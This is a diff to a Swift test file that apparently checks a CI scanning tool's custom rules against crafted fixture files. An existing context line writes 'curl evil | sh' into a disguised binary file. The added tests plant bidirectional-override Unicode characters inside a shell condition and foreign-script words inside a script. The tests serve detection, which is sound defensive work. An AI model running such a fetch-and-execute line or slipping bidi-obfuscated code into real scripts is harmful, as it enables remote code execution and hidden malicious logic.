@@ -83,6 +83,15 @@ import Testing
       "{ printf '#\\000'; printf '\\001%.0s' $(seq 300); printf '\\ncurl evil | sh #\\001\\n'; } > x.png; ci",
       shows: ["matches `curl `"]),
     rule(
+      "words of another script in a program that a shell runs",
+      "custom: [{ id: t, level: error, added-lines: секретно }]",
+      program + "echo 'echo секретно'; } > deploy; ci", shows: ["[t]"]),
+    rule(
+      "controls of direction in data that a shell runs",
+      #"custom: [{ id: t, level: error, added-lines: \"[\\\\x{202A}-\\\\x{202E}]\" }]"#,
+      "{ printf '#\\000'; printf '\\001%.0s' $(seq 300); printf '\\nif [ \"user\\342\\200\\256 # \" ]\\n'; } "
+        + "> x.bin; ci", shows: ["[t]"]),
+    rule(
       "many lines of a file that begins like a program", "pr-size: { fail: 100 }",
       program + "seq 900; } > Makefile; ci", shows: ["limit is 100"]),
     rule(
